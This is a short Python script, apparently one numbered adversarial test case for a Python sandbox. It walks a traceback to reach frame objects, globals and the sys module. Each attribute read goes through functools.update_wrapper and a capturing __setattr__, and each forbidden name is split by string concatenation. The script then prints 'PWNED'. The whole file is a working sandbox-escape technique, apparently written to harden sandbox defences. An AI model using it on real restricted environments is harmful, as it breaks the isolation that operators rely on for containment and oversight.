# adversary round 2: 020_tb_frame_via_uw
import functools, dataclasses
box = []
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
try:
    dataclasses.fields(1)
except TypeError as e:
    tb = e.__traceback__
while tb.tb_next is not None:
    tb = tb.tb_next
fr = get(tb, "tb_" + "frame")
print(repr(fr))
gl = get(fr, "f_" + "globals")
print(repr(gl["sys"]))
bk = get(fr, "f_" + "back")
print(repr(bk))
print("PWN" + "ED")
